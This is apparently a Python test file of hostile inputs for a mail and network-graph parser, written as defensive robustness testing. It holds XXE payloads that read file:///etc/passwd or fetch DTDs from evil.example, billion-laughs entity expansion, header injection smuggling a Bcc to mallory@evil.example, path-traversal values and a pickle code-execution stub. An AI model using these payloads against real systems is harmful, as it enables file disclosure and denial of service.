"""Mails and networks made to harm: headers without end, parts in parts, entities that grow, files that are named."""

from tests.hostile.cases import Case, Outcome, case

READ = Outcome.READ
DATE = "Date: Mon, 5 Jan 2026 10:00:00 +0100\n"
FROM, TO = "From: Bo Chen <bo@example.com>\n", "To: Ann Lee <ann@example.com>\n"
PARTING = "From bo@example.com Mon Jan  5 10:00:00 2026\n"
GRAPH = '<graphml><key id="n" for="node" attr.name="label"/><graph edgedefault="undirected">'
NODES = '<node id="1"><data key="n">Bo Chen</data></node><node id="2"><data key="n">Ann Lee</data></node>'
END = '<edge source="1" target="2"/></graph></graphml>'
BOTH = ("Ann Lee", "Bo Chen")

HEADERS = {
    "a name of encoded words": "From: " + "=?utf-8?b?QQ==?= " * 5000 + "<bo@example.com>",
    "an encoded word that does not end": "From: =?utf-8?b?" + "A" * 50_000,
    "an encoded word in an encoding that is none": "From: =?utf-8?x?QQ==?= <bo@example.com>",
    "an encoded word in UTF-7": "From: =?utf-7?q?+AD4-?= <bo@example.com>",
    "an encoded word that is no text": "From: =?zlib?b?eJwDAAAAAAE=?= <bo@example.com>",
    "an encoded word with line ends": "From: =?utf-8?q?Bo=0D=0ABcc:_mallory@evil.example?= <bo@example.com>",
    "encoded words in encoded words": "From: =?utf-8?q?=3D=3Futf-8=3Fq=3Fx=3F=3D?= <bo@example.com>",
    "the letters that stand for what is put aside": (
        "From: \ue0000\ue001\ue00099999999999\ue001 =?utf-8?q?x?= <bo@example.com>"
    ),
    "comments in comments": "From: " + "(" * 50_000 + " <bo@example.com>",
    "comments that do not end": "From: x " + "(\\" * 50_000,
    "quotation marks that do not end": 'From: "' + '\\"' * 50_000,
    "angle brackets without end": "From: " + "<" * 50_000,
    "a route of fifty thousand hosts": "From: <" + "@a," * 50_000 + ":bo@example.com>",
    "groups in groups": "From: " + "a:" * 50_000 + ";",
    "at signs without end": "From: " + "@" * 50_000,
    "commas without end": "From: " + "," * 50_000,
    "a host that is a number": "From: bo@[127.0.0.1]",
    "a host that is a path": "From: bo@../../etc/passwd",
    "an address in quotation marks": 'From: "bo@evil.example"@example.com',
    "an address of 100 KB": "From: " + "a" * 100_000 + "@example.com",
    "a host of 100 KB": "From: bo@" + "a." * 50_000 + "com",
    "a homoglyph in the host": "From: Bo <bo@exаmple.com>",
    "NUL in an address": "From: bo\x00@example.com",
    "half a character": "From: \udcff\ud800 <bo@example.com>",
    "fifty thousand headers of one name": "From: bo@example.com\n" * 50_000,
    "a header that is folded fifty thousand times": "From: bo@example.com" + "\n " * 50_000,
    "a header of a megabyte": "X-Hostile: " + "a" * 1_100_000,
    "a date that is none": "Date: Mon, 99 Foo 99999 99:99:99 +9999",
    "a date before all days": "Date: Mon, 1 Jan 0000 00:00:00 +2359",
    "a date after all days": "Date: Fri, 31 Dec 9999 23:59:59 -2359",
    "a date of many digits": "Date: " + "1" * 50_000,
    "a date of brackets": "Date: " + "(" * 50_000,
    "a zone that overflows": "Date: Mon, 5 Jan 2026 10:00:00 +99999999999999999999",
    "an id of 100 KB": "Message-ID: <" + "a" * 100_000 + ">",
    "references without end": "References: " + "<a@b> " * 50_000,
    "labels without end": "X-Gmail-Labels: " + '"' * 50_001,
    "a status that is none": "X-Mozilla-Status: 0xZZZZ",
    "a status without end": "X-Mozilla-Status: " + "f" * 5_000,
    "a charset that is none": 'Content-Type: text/plain; charset="../../etc/passwd"',
    "a receiver's hop without end": "Received: " + "from a by b; " * 20_000,
}

DTD = "<!DOCTYPE graphml [{}]>"
LAUGHS = '<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {x} "{"&" + w + ";" * 1}{("&" + w + ";") * 9}">' for w, x in zip("abcdefgh", "bcdefghi", strict=True)
)

XML = {
    "a billion laughs": DTD.format(LAUGHS) + GRAPH + NODES.replace("Bo Chen", "&i;") + END,
    "one long entity, many times": DTD.format(f'<!ENTITY a "{"x" * 50_000}">')
    + GRAPH
    + NODES.replace("Bo Chen", "&a;" * 1000)
    + END,
    "a file as an entity": DTD.format("<!ENTITY a SYSTEM 'file:///etc/passwd'>")
    + GRAPH
    + NODES.replace("Bo Chen", "&a;")
    + END,
    "an address as an entity": DTD.format("<!ENTITY a SYSTEM 'http://evil.example/'>")
    + GRAPH
    + NODES.replace("Bo Chen", "&a;")
    + END,
    "an entity of parameters": DTD.format("<!ENTITY % a SYSTEM 'http://evil.example/x.dtd'> %a;") + GRAPH + NODES + END,
    "a DTD elsewhere": '<!DOCTYPE graphml SYSTEM "http://evil.example/x.dtd">' + GRAPH + NODES + END,
    "a DTD that is a file": '<!DOCTYPE graphml SYSTEM "file:///dev/zero">' + GRAPH + NODES + END,
    "attributes by default": DTD.format(f'<!ATTLIST node x CDATA "{"y" * 50_000}">') + GRAPH + NODES * 1000 + END,
    "a notation": DTD.format("<!NOTATION n SYSTEM '/bin/sh'>") + GRAPH + NODES + END,
    "a style sheet": '<?xml-stylesheet href="http://evil.example/x.xsl"?>' + GRAPH + NODES + END,
    "an inclusion": GRAPH
    + "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>"
    + NODES
    + END,
    "a schema elsewhere": GRAPH.replace("<graphml", "<graphml xsi:schemaLocation='x http://evil.example/'")
    + NODES
    + END,
    "elements a hundred thousand deep": GRAPH + "<node id='1'>" * 100_000,
    "a hundred thousand attributes": GRAPH
    + "<node id='1' "
    + " ".join(f"a{n}='x'" for n in range(100_000))
    + "/>"
    + NODES
    + END,
    "an attribute of 5 MB": GRAPH + f"<node id='{'a' * 5_000_000}'/>" + NODES + END,
    "a name of 5 MB": GRAPH + NODES.replace("Bo Chen", "B" * 5_000_000) + END,
    "an element's name of 1 MB": GRAPH + f"<{'a' * 1_000_000}/>" + NODES + END,
    "a comment that does not end": GRAPH + NODES + "<!--" + END,
    "CDATA that does not end": GRAPH + NODES + "<![CDATA[" + END,
    "a prefix that nobody declared": "<x:graphml><x:graph><x:node id='1'/></x:graph></x:graphml>",
    "an encoding that is none": "<?xml version='1.0' encoding='../../etc/passwd'?>" + GRAPH + NODES + END,
    "an encoding that Python has": "<?xml version='1.0' encoding='unicode_escape'?>" + GRAPH + NODES + END,
    "UTF-7": "<?xml version='1.0' encoding='UTF-7'?>" + GRAPH + NODES + END,
    "characters that XML forbids": GRAPH + NODES.replace("Bo Chen", "&#0;&#x1b;&#xd800;&#x110000;") + END,
    "two roots": GRAPH + NODES + END + GRAPH + NODES + END,
    "ids that are there twice": GRAPH + NODES + NODES + END,
    "edges to nobody": GRAPH + NODES + '<edge source="1" target="99"/>' + END,
    "an edge that lacks an end": GRAPH + NODES + '<edge source="1"/>' + END,
    "a key for everything": GRAPH + "<key id='__class__' attr.name='__class__'/>" + NODES + END,
    "a graph in a node": GRAPH + "<node id='3'><graph><node id='4'/></graph></node>" + NODES + END,
}

CASES: tuple[Case, ...] = (
    *(case(f"mail: {name}", "mail.eml", f"{line}\n{TO}{DATE}\ntext\n") for name, line in HEADERS.items()),
    *(
        case(
            f"mailbox: {name}",
            "box.mbox",
            f"{PARTING}{line}\n{TO}{DATE}\ntext\n\n{PARTING}{FROM}{TO}{DATE}\ntext\n",
            READ,
        )
        for name, line in HEADERS.items()
        if "megabyte" not in name
    ),
    case("mail: a header without a colon", "mail.eml", f"From\n{TO}{DATE}\ntext\n"),
    case(
        "mailbox: a header without a colon, so that it starts as no mailbox does",
        "box.mbox",
        f"{PARTING}From\n{TO}{DATE}\ntext\n\n{PARTING}{FROM}{TO}{DATE}\ntext\n",
        Outcome.REFUSED,
    ),
    case(
        "mailbox: a header without a colon behind a good mail",
        "box.mbox",
        f"{PARTING}{FROM}{TO}{DATE}\ntext\n\n{PARTING}From\n{TO}{DATE}\ntext\n",
        READ,
    ),
    *(case(f"network: {name}", "network.graphml", text) for name, text in XML.items()),
    *(
        case(f"network of Gephi: {name}", "network.gexf", text.replace("graphml", "gexf"))
        for name, text in XML.items()
        if len(text) < 200_000
    ),
    case(
        "parts of a mail a thousand deep",
        "mail.eml",
        FROM
        + TO
        + DATE
        + "Content-Type: multipart/mixed; boundary=a\n\n"
        + "--a\nContent-Type: multipart/mixed; boundary=a\n\n" * 1000,
        READ,
    ),
    case(
        "mails in mails", "mail.eml", FROM + TO + DATE + "Content-Type: message/rfc822\n\n" + (FROM + "\n") * 1000, READ
    ),
    Case(
        "a body of 20 MB in one line", "mail.eml", lambda: (FROM + TO + DATE + "\n").encode() + b"A" * 20_000_000, READ
    ),
    Case(
        "a body of lines that look like new mails",
        "box.mbox",
        lambda: (PARTING + FROM + TO + DATE + "\n" + "From x\n" * 200_000).encode(),
        READ,
    ),
    Case("a mailbox of empty mails", "box.mbox", lambda: PARTING.encode() * 50_000),
    Case("a mailbox whose headers never end", "box.mbox", lambda: (PARTING + FROM + TO + "X: y\n" * 500_000).encode()),
    Case("a mailbox of carriage returns", "box.mbox", lambda: (PARTING + FROM + TO).encode() + b"\r" * 5_000_000),
    case(
        "a mail that runs Python",
        "mail.eml",
        FROM + TO + DATE + "Content-Type: application/x-python-pickle\n\ncos\nsystem\n",
        READ,
    ),
    case("a mail to nobody", "mail.eml", FROM + "To: undisclosed-recipients:;\n" + DATE + "\n", READ),
    case(
        "a mail to the same a thousand times",
        "mail.eml",
        FROM + "To: " + "ann@example.com, " * 1000 + "\n" + DATE + "\n",
        READ,
    ),
    case(
        "a well-known DOCTYPE",
        "network.graphml",
        '<!DOCTYPE graphml SYSTEM "http://graphml.graphdrawing.org/dtds/1.0/graphml.dtd">' + GRAPH + NODES + END,
        READ,
        BOTH,
    ),
)
"""Every case."""
